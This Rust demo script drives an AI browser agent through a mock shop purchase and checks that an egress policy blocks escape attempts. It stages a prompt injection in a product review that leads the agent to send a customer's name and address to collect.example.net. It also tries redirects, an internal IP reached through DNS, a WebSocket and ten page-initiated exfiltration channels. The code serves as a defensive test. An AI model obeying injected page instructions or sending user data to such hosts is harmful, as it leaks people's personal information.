//! The session that the demo plays, step by step, with what each must come to.

use anyhow::Result;
use ringfence_report::Layer;
use ringfence_testkit::Site;
use serde_json::json;

use crate::agent::Agent;
use crate::names::STAFF;
use crate::shop::SHOP;
use crate::watch::Watch;

/// What the driver says of a navigation that a page started and the policy refused.
const STOPPED: &str = "A page tried to go to an address that the policy refuses; it was stopped.";

/// Something that has to be refused, where, and why.
#[derive(Debug)]
pub(crate) struct Lure {
    pub(crate) layer: Layer,
    pub(crate) host: &'static str,
    pub(crate) code: &'static str,
}

const fn lure(layer: Layer, host: &'static str, code: &'static str) -> Lure {
    Lure { layer, host, code }
}

/// What the agent is led to.
pub(crate) const LURES: [Lure; 7] = [
    lure(Layer::Call, "collect.example.net", "not-listed"),
    lure(Layer::Browser, "partner.example.net", "not-listed"),
    lure(Layer::Browser, "hekla.example.org", "not-listed"),
    lure(Layer::Browser, "prizes.example.net", "not-listed"),
    lure(Layer::Proxy, "chat.example.net", "not-listed"),
    lure(Layer::Proxy, STAFF, "resolved-address"),
    lure(Layer::Call, "10.0.0.7", "ip-literal"),
];

/// What one page of the shop's tries by itself: ten ways, each to a host of its own.
pub(crate) const WAYS: [Lure; 10] = [
    lure(Layer::Load, "fetch.example.net", "not-listed"),
    lure(Layer::Load, "xhr.example.net", "not-listed"),
    lure(Layer::Load, "image.example.net", "not-listed"),
    lure(Layer::Load, "script.example.net", "not-listed"),
    lure(Layer::Load, "style.example.net", "not-listed"),
    lure(Layer::Load, "beacon.example.net", "not-listed"),
    lure(Layer::Browser, "frame.example.net", "not-listed"),
    lure(Layer::Browser, "form.example.net", "not-listed"),
    lure(Layer::Load, "worker.example.net", "not-listed"),
    lure(Layer::Proxy, "socket.example.net", "not-listed"),
];

/// What the session is played on.
pub(crate) struct World<'a> {
    pub(crate) site: &'a Site,
    pub(crate) watch: &'a Watch,
}

impl World<'_> {
    fn shop(&self, path: &str) -> String {
        format!("http://{SHOP}:{}{path}", self.site.address().port())
    }

    fn shop_saw(&self, line: &str) -> bool {
        self.site.request_lines().iter().any(|seen| seen == line)
    }

    fn shop_got(&self, path: &str, body: &str) -> bool {
        self.site.requests().iter().any(|seen| seen.path == path && seen.body == body.as_bytes())
    }
}

/// Plays all of it.
pub(crate) async fn play(agent: &mut Agent<'_>, world: &World<'_>) -> Result<()> {
    find_the_lamp(agent, world).await?;
    read_in_the_frame(agent).await?;
    look_into_a_window(agent).await?;
    be_lured_away(agent, world).await?;
    be_led_off_by_the_page(agent, world).await?;
    get_past_the_names(agent, world).await?;
    try_ten_ways(agent, world).await?;
    buy_the_lamp(agent, world).await?;
    fill_in_the_checkout(agent, world).await
}

async fn find_the_lamp(agent: &mut Agent<'_>, world: &World<'_>) -> Result<()> {
    let reply = agent.call("Open the shop", "navigate", json!({ "url": world.shop("/") })).await?;
    agent.check(&reply, "the shop is open", reply.says("\"Lumen & Oak\" (HTTP 200)"))?;

    let reply = agent.call("Look around", "read_page", json!({})).await?;
    agent.check(&reply, "six products, each link with a ref to click", reply.says("Knut stool"))?;

    let target = agent.target("searchbox", "Search the shop")?;
    let input = json!({ "target": target, "value": "lamp" });
    let reply = agent.call("Fill in the search", "form_input", input).await?;
    agent.check(&reply, "the field holds it", reply.says("now holds"))?;

    let reply = agent.call("Send it off", "key", json!({ "text": "Return" })).await?;
    agent.check(&reply, "the answer says where the key led", reply.says("/search?q=lamp"))?;

    let reply = agent.call("Read what was found", "read_page", json!({ "filter": "interactive" })).await?;
    let lamps =
        ["Hekla desk lamp", "Torr floor lamp", "Fenn reading lamp"].iter().all(|lamp| reply.says(lamp));
    agent.check(&reply, "three lamps", lamps && !reply.says("Knut stool"))?;

    let input = json!({ "target": agent.target("link", "Hekla desk lamp")? });
    let reply = agent.call("Open the first", "left_click", input).await?;
    agent.check(&reply, "the lamp's page is open", reply.says("/item/hekla"))
}

async fn read_in_the_frame(agent: &mut Agent<'_>) -> Result<()> {
    let until = json!({ "duration": 20, "until": { "text": "Ida, 5 of 5." } });
    let reply = agent.call("Wait until its reviews are there, too", "wait", until).await?;
    agent.check(&reply, "they are", reply.says("The text is there."))?;

    let reply = agent
        .call("Read it, with the reviews in a frame of another host", "read_page", json!({ "filter": "all" }))
        .await?;
    let both = reply.says("heading \"Hekla desk lamp\"") && reply.says("Ida, 5 of 5.");
    agent.check(&reply, "one reading of page and frame, between lines that the page can't forge", both)?;

    let input = json!({ "target": agent.target("button", "Show one more")? });
    let reply = agent.call("Click inside the frame", "left_click", input).await?;
    agent.check(&reply, "clicked", reply.code.is_none())?;

    let reply =
        agent.call("Find what it showed", "find", json!({ "query": "They outlive their bulbs" })).await?;
    agent.check(&reply, "the frame's new review", reply.says("outlive"))?;

    let reply = agent.call("Take a picture for the person", "screenshot", json!({})).await?;
    agent.check(&reply, "one picture", reply.pictures.len() == 1)
}

async fn look_into_a_window(agent: &mut Agent<'_>) -> Result<()> {
    let input = json!({ "target": agent.target("link", "How to look after it")? });
    let reply = agent.call("Click a link that opens a window of the shop's", "left_click", input).await?;
    agent.check(&reply, "a second tab, and the first stays active", reply.says("Opened: tab t2"))?;

    let reply = agent.call("Read the window", "get_page_text", json!({ "tab_id": "t2" })).await?;
    agent.check(&reply, "its text", reply.says("Oil it once a year"))?;

    let reply = agent.call("Close it", "close_tab", json!({ "tab_id": "t2" })).await?;
    agent.check(&reply, "one tab is left", reply.says("* t1") && !reply.says("t2"))
}

async fn be_lured_away(agent: &mut Agent<'_>, world: &World<'_>) -> Result<()> {
    let (host, code) = ("collect.example.net", "not-listed");
    let input = json!({ "url": format!("https://{host}/lamp?name=Kim+Lee&address=1+Main+St") });
    let reply =
        agent.call("Fall for the notice to AI assistants in the third review", "navigate", input).await?;
    let refused = reply.refuses(code, host) && !world.watch.at_exit(host);
    agent.check(&reply, "refused before anything was sent", refused)?;

    let (host, code) = ("partner.example.net", "not-listed");
    let input = json!({ "url": world.shop("/go/partner") });
    let reply =
        agent.call("Follow the shop's own link to a partner, which redirects", "navigate", input).await?;
    let refused =
        reply.refuses(code, host) && world.shop_saw("GET /go/partner") && !world.watch.at_exit(host);
    agent.check(&reply, "the shop was asked, where it redirects to was not", refused)
}

async fn be_led_off_by_the_page(agent: &mut Agent<'_>, world: &World<'_>) -> Result<()> {
    let host = "hekla.example.org";
    let input = json!({ "target": agent.target("link", "The maker's own page")? });
    let reply = agent.call("Click a link off the list", "left_click", input).await?;
    let stayed = reply.says(STOPPED) && !world.watch.at_exit(host);
    agent.check(&reply, "stopped; the lamp's page stays", stayed)?;

    let host = "prizes.example.net";
    let input = json!({ "target": agent.target("link", "Win this lamp")? });
    let reply = agent.call("Click a link that opens a window off the list", "left_click", input).await?;
    let stayed = reply.says(STOPPED) && !world.watch.at_exit(host);
    agent.check(&reply, "stopped; the window is closed before it shows anything", stayed)?;

    let reply = agent.call("See that no window is left", "list_tabs", json!({})).await?;
    let one = reply.says("* t1 \"Hekla desk lamp") && reply.text.lines().count() == 1;
    agent.check(&reply, "one tab, where it was", one)
}

async fn get_past_the_names(agent: &mut Agent<'_>, world: &World<'_>) -> Result<()> {
    let input = json!({ "target": agent.target("button", "Ask us in the chat")? });
    let reply =
        agent.call("Let the page open a WebSocket, which is no page load", "left_click", input).await?;
    let code = world.watch.refused("chat.example.net").await?;
    agent.check(
        &reply,
        "the judging in the browser does not see it; the proxy refused it",
        code.as_str() == "not-listed",
    )?;

    let code = "resolved-address";
    let input = json!({ "url": format!("https://{STAFF}/orders") });
    let reply = agent
        .call("Open a host that is on the list, but whose name leads to 10.0.0.7", "navigate", input)
        .await?;
    let refused = reply.refuses(code, STAFF) && world.watch.refused(STAFF).await?.as_str() == code;
    agent.check(&reply, "the proxy refused the address behind the name; nobody dialled it", refused)?;

    let (host, code) = ("10.0.0.7", "ip-literal");
    let input = json!({ "url": format!("https://{host}/orders") });
    let reply = agent.call("Try that address itself", "navigate", input).await?;
    let refused = reply.refuses(code, host) && !world.watch.at_exit(host);
    agent.check(&reply, "refused before anything was sent", refused)
}

async fn try_ten_ways(agent: &mut Agent<'_>, world: &World<'_>) -> Result<()> {
    let reply = agent
        .call("Open a page that tries ten ways out", "navigate", json!({ "url": world.shop("/thanks") }))
        .await?;
    agent.check(&reply, "it is the shop's own, so it may be opened", reply.says("Ten ways out"))?;

    let reply = agent.call("Find its button", "read_page", json!({ "filter": "interactive" })).await?;
    agent.check(&reply, "there it is", reply.says("Try all ten"))?;

    let input = json!({ "target": agent.target("button", "Try all ten")? });
    let reply = agent.call("Let it try", "left_click", input).await?;
    agent.check(&reply, "clicked", reply.code.is_none())?;

    let until = json!({ "duration": 20, "until": { "text": "All ten were tried" } });
    let reply = agent.call("Wait until it has tried them all", "wait", until).await?;
    agent.check(&reply, "it has", reply.says("The text is there."))?;

    let reply = agent.call("Read what it got", "get_page_text", json!({})).await?;
    for way in &WAYS {
        let code = world.watch.refused(way.host).await?;
        anyhow::ensure!(code.as_str() == way.code, "{} was refused with {code}", way.host);
        let at_exit = world.watch.at_exit(way.host);
        anyhow::ensure!(at_exit == (way.layer == Layer::Proxy), "{} at the exit: {at_exit}", way.host);
    }
    let none = reply.says("All ten were tried, 0 got an answer.");
    agent.check(&reply, "all ten were refused, nine in the browser and one by the proxy", none)?;

    let reply = agent.call("Take a picture of it", "screenshot", json!({})).await?;
    agent.check(&reply, "one picture", reply.pictures.len() == 1)
}

async fn buy_the_lamp(agent: &mut Agent<'_>, world: &World<'_>) -> Result<()> {
    let reply = agent
        .call(
            "Back to the task: open the lamp's page",
            "navigate",
            json!({ "url": world.shop("/item/hekla") }),
        )
        .await?;
    agent.check(&reply, "the lamp's page is open", reply.says("/item/hekla"))?;

    let reply =
        agent.call("Read what can be acted on", "read_page", json!({ "filter": "interactive" })).await?;
    agent.check(&reply, "the form has refs", reply.says("Gift wrap"))?;

    fill(agent, "Two of them", "combobox", "Quantity", json!("2")).await?;
    fill(agent, "As a present", "checkbox", "Gift wrap", json!(true)).await?;

    let input = json!({ "target": agent.target("button", "Add to basket")? });
    let reply = agent.call("Into the basket", "left_click", input).await?;
    let sent = world.shop_got("/basket", "quantity=2&gift=yes");
    agent.check(&reply, "the shop got the form", reply.says("/basket") && sent)?;

    let reply = agent.call("Read the basket", "read_page", json!({ "filter": "all" })).await?;
    let right = reply.says("2 × Hekla desk lamp, gift-wrapped") && reply.says("Total €78");
    agent.check(&reply, "two lamps, wrapped", right)?;

    let input = json!({ "target": agent.target("link", "To the checkout")? });
    let reply = agent.call("Go on", "left_click", input).await?;
    agent.check(&reply, "the checkout is open", reply.says("/checkout"))
}

async fn fill_in_the_checkout(agent: &mut Agent<'_>, world: &World<'_>) -> Result<()> {
    let reply = agent.call("Read the form", "read_page", json!({ "filter": "interactive" })).await?;
    agent.check(&reply, "fields of seven kinds", reply.says("I agree to the terms"))?;

    fill(agent, "Who it is for", "textbox", "Full name", json!("Kim Lee")).await?;
    fill(agent, "Where to write to", "textbox", "Email", json!("kim@example.com")).await?;
    fill(agent, "Choose from a list", "combobox", "Country", json!("Iceland")).await?;
    fill(agent, "Set a date", "textbox", "Deliver on", json!("2027-01-15")).await?;
    fill(agent, "Choose one of two", "radio", "Bicycle", json!(true)).await?;
    fill(agent, "Write two lines", "textbox", "Note", json!("Ring twice.\nThank you!")).await?;
    fill(agent, "Tick the box", "checkbox", "I agree to the terms", json!(true)).await?;

    let input = json!({ "target": agent.target("button", "Place the order")? });
    let reply = agent.call("Order", "left_click", input).await?;
    let body = "name=Kim+Lee&email=kim%40example.com&country=Iceland&day=2027-01-15&by=bicycle\
                &note=Ring+twice.%0D%0AThank+you%21&terms=yes";
    let sent = world.shop_got("/order", body);
    agent.check(&reply, "the shop got every field", reply.says("/order") && sent)?;

    let reply = agent.call("Read the answer", "get_page_text", json!({})).await?;
    let done = reply.says("It goes to Kim Lee in Iceland, by bicycle, on 2027-01-15.");
    agent.check(&reply, "the task is done", done)?;

    let reply = agent.call("Take a picture for the person", "screenshot", json!({})).await?;
    agent.check(&reply, "one picture", reply.pictures.len() == 1)
}

/// Fills in a field of the last reading.
async fn fill(
    agent: &mut Agent<'_>,
    why: &str,
    role: &str,
    name: &str,
    value: serde_json::Value,
) -> Result<()> {
    let input = json!({ "target": agent.target(role, name)?, "value": value });
    let reply = agent.call(why, "form_input", input).await?;
    agent.check(&reply, "the field holds it", reply.says("now holds"))
}
